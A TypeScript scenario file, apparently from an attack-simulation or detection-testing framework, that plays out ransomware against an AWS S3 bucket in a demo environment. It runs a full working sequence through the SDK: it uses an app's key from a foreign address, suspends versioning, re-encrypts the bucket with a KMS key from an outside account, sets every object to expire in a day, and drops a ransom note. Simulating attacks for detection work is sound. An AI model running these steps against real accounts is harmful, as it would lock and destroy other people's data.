import {
  ListBucketsCommand,
  PutBucketEncryptionCommand,
  PutBucketLifecycleConfigurationCommand,
  PutBucketVersioningCommand,
  PutObjectCommand,
} from '@aws-sdk/client-s3';
import { AWAY, STRANGE, STRANGERS_ACCOUNT } from './places.ts';
import type { PlayableScenario } from './scenario.ts';
import { visit } from './visitor.ts';

const NOTE = 'Your files are encrypted with a key that only we have. Pay within three days.\n';

export const ransomInS3: PlayableScenario = {
  id: 'ransom-in-s3',
  title: 'A ransom is asked for a bucket',
  story:
    'The key of the reports program is used to lock its bucket: a foreign key, no versions, deletion in a day, and a note.',

  play: (aws, options) =>
    visit(
      aws,
      { credentials: aws.demo.credentials.reportsApp, address: AWAY.hosting, userAgent: STRANGE.rclone },
      options,
      async ({ s3 }, step) => {
        const Bucket = aws.demo.reportsBucket;
        const { region } = aws.demo;
        await step('ListBuckets', () => s3.send(new ListBucketsCommand({})));
        await step('PutBucketVersioning', () =>
          s3.send(new PutBucketVersioningCommand({ Bucket, VersioningConfiguration: { Status: 'Suspended' } })),
        );
        await step('PutBucketEncryption', () =>
          s3.send(
            new PutBucketEncryptionCommand({
              Bucket,
              ServerSideEncryptionConfiguration: {
                Rules: [
                  {
                    ApplyServerSideEncryptionByDefault: {
                      SSEAlgorithm: 'aws:kms',
                      KMSMasterKeyID: `arn:aws:kms:${region}:${STRANGERS_ACCOUNT}:key/0f1e2d3c-4b5a-4697-8879-a5b4c3d2e1f0`,
                    },
                  },
                ],
              },
            }),
          ),
        );
        await step('PutBucketLifecycleConfiguration', () =>
          s3.send(
            new PutBucketLifecycleConfigurationCommand({
              Bucket,
              LifecycleConfiguration: {
                Rules: [{ ID: 'clean', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 } }],
              },
            }),
          ),
        );
        await step('PutObject', () =>
          s3.send(new PutObjectCommand({ Bucket, Key: 'HOW_TO_RECOVER_YOUR_FILES.txt', Body: NOTE })),
        );
      },
    ),
};
